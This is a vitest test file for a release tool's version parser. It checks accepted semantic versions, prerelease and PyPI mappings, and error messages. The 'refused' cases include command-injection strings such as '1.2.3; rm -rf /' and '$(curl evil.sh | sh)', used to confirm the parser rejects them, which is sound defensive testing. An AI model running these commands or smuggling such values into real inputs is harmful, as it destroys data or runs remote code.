import { ConfigurationError } from '@deployforge/diagnostics';
import { describe, expect, test } from 'vitest';
import { parseVersionInput, tagFor, type ParseVersionOptions } from './parse-version-input.js';

const v: ParseVersionOptions = { tagPrefix: 'v', origin: 'version' };

function messageOf(fn: () => unknown): string {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigurationError);
    expect((error as ConfigurationError).exitCode).toBe(2);
    return (error as Error).message;
  }
  throw new Error('expected a ConfigurationError');
}

describe('parseVersionInput: accepted', () => {
  test.each([
    ['1.2.3', v, { version: '1.2.3', tag: 'v1.2.3', prerelease: false, npmDistTag: 'latest', pypiVersion: '1.2.3' }],
    ['v1.2.3', v, { version: '1.2.3', tag: 'v1.2.3', prerelease: false, npmDistTag: 'latest', pypiVersion: '1.2.3' }],
    ['2.0.0-rc.1', v, { version: '2.0.0-rc.1', tag: 'v2.0.0-rc.1', prerelease: true, npmDistTag: 'next', pypiVersion: '2.0.0rc1' }],
    ['v0.1.0-alpha.2', v, { version: '0.1.0-alpha.2', tag: 'v0.1.0-alpha.2', prerelease: true, npmDistTag: 'next', pypiVersion: '0.1.0a2' }],
    ['1.0.0-foo.1', v, { version: '1.0.0-foo.1', tag: 'v1.0.0-foo.1', prerelease: true, npmDistTag: 'next' }],
    ['1.2.3', { tagPrefix: '', origin: 'version' }, { version: '1.2.3', tag: '1.2.3' }],
    ['shimmy-v1.2.3', { tagPrefix: 'shimmy-v', origin: 'version' }, { version: '1.2.3', tag: 'shimmy-v1.2.3' }],
    ['release/1.2.3', { tagPrefix: 'release/', origin: 'version' }, { version: '1.2.3', tag: 'release/1.2.3' }],
  ] as const)('%s (prefix %j)', (raw, options, want) => {
    expect(parseVersionInput(raw, options)).toMatchObject({ source: 'input', ...want });
  });

  test('an unmappable prerelease has no pypiVersion key at all', () => {
    expect(parseVersionInput('1.0.0-foo.1', v)).not.toHaveProperty('pypiVersion');
  });

  test('build metadata is kept in version and tag, and noted', () => {
    const r = parseVersionInput('1.2.3+build.5', v);
    expect(r).toMatchObject({ version: '1.2.3+build.5', tag: 'v1.2.3+build.5', buildMetadata: 'build.5', pypiVersion: '1.2.3' });
    expect(r.warnings).toHaveLength(1);
    expect(r.warnings![0]).toContain('build metadata "+build.5"');
    expect(r.warnings![0]).toContain('PyPI refuses it (1.2.3 is published there)');
    expect(parseVersionInput('1.2.3', v)).not.toHaveProperty('warnings');
  });

  test('source is passed through', () => {
    expect(parseVersionInput('1.2.3', { ...v, source: 'cargo' }).source).toBe('cargo');
  });
});

describe('parseVersionInput: refused', () => {
  test.each([
    // [raw, options, substrings]
    ['1.2', v, ['version: "1.2" is not a valid version', 'expected a semantic version like 1.2.3 or 1.2.3-rc.1', 'all three numbers are required']],
    ['v1.2', v, ['"v1.2" is not a valid version', 'all three numbers are required']],
    ['v1.2.3', { tagPrefix: '', origin: 'version' }, ['"v1.2.3" is not a valid version', 'a leading "v" is accepted only as the tag prefix, and version.tag-prefix is ""']],
    ['V1.2.3', v, ['a leading "V" is accepted only as the tag prefix, and version.tag-prefix is "v"']],
    ['=1.2.3', v, ['a leading "="']],
    ['vv1.2.3', v, ['"vv1.2.3" is not a valid version']],
    ['v1.2.3', { ...v, allowPrefix: false, origin: 'package.json: version' }, ['package.json: version: "v1.2.3" is not a valid version', 'a leading "v" is not part of a version']],
    [' 1.2.3', v, ['remove the surrounding whitespace']],
    ['1.2.3\n', v, ['"1.2.3 " is not a valid version']],
    ['01.2.3', v, ['"01.2.3" is not a valid version']],
    ['1.2.3-rc.01', v, ['"1.2.3-rc.01" is not a valid version']],
    ['1.2.3-', v, ['is not a valid version']],
    ['latest', v, ['"latest" is not a valid version']],
    ['', v, ['version: "" is not a valid version']],
    ['1.2.3; rm -rf /', v, ['"1.2.3; rm -rf /" is not a valid version']],
    ['$(curl evil.sh | sh)', v, ['"$(curl evil.sh | sh)" is not a valid version']],
    ['1.2.3`id`', v, ['is not a valid version']],
    ['1.2.3\nrun: echo pwned', v, ['"1.2.3 run: echo pwned" is not a valid version']],
    ['1.2.3 && echo', v, ['is not a valid version']],
  ] as const)('%j', (raw, options, substrings) => {
    const message = messageOf(() => parseVersionInput(raw, options));
    for (const s of substrings) expect(message).toContain(s);
    // One line, always: messages land in CI logs and annotations.
    expect(message).not.toContain('\n');
  });

  test('long input is shortened, never echoed whole', () => {
    const message = messageOf(() => parseVersionInput(`1.2.3-${'a'.repeat(500)}!`, v));
    expect(message).toContain('"1.2.3-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa..."');
    expect(message.length).toBeLessThan(250);
  });

  test.each([[42], [null], [undefined], [{ version: '1.2.3' }], [['1.2.3']]])('non-string %j', (raw) => {
    expect(messageOf(() => parseVersionInput(raw, v))).toMatch(/^version: expected a version string, got /);
  });
});

describe('tagFor', () => {
  test.each([
    ['1.2.3', 'v', 'v1.2.3'],
    ['1.2.3', '', '1.2.3'],
    ['2.0.0-rc.1', 'shimmy-v', 'shimmy-v2.0.0-rc.1'],
  ])('%s + %j → %s', (version, prefix, tag) => {
    expect(tagFor(version, prefix)).toBe(tag);
  });
});
